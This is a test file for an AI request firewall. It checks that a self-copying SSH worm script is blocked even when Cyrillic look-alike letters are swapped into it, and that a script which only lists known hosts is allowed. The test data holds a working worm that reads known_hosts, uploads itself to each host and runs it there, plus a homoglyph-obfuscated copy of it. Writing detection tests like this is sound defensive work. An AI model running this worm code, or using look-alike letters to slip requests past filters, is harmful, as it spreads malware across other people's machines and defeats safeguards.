/**
 * A request spread over lines is read whole through the Unicode fold of its lines: look-alike
 * letters from other scripts hide nothing from the reading of the lines together. Written here.
 */
import { describe, expect, it } from 'vitest';
import { IntentFirewall } from '../../../src/index.js';

const decide = (content: string) => new IntentFirewall().validateRequest({ id: 'fold', content }).decision;

describe('the whole-request reading of folded lines', () => {
  const plain =
    "import paramiko, os\nfor line in open(os.path.expanduser('~/.ssh/known_hosts')):\n    s = paramiko.SSHClient(); s.connect(line.split()[0])\n    s.open_sftp().put(__file__, '/tmp/.u.py')\n    s.exec_command('python3 /tmp/.u.py &')";
  const bent =
    "import pаramiko, os\nfor line in оpen(os.path.expanduser('~/.ssh/knоwn_hosts')):\n    s = pаramiko.SSHClient(); s.connect(line.split()[0])\n    s.open_sftp().put(__file__, '/tmp/.u.py')\n    s.exec_cоmmand('python3 /tmp/.u.py &')";
  it('reads a script that copies itself to every known host the same with look-alike letters', () => {
    expect(bent).not.toBe(plain);
    expect(decide(plain)).not.toBe('allow');
    expect(decide(bent)).not.toBe('allow');
  });
  it('leaves a script that only lists the known hosts alone', () => {
    const list = "import оs\nfor line in оpen(os.path.expanduser('~/.ssh/known_hosts')):\n    print(line.split()[0])";
    expect(decide(list)).toBe('allow');
  });
});
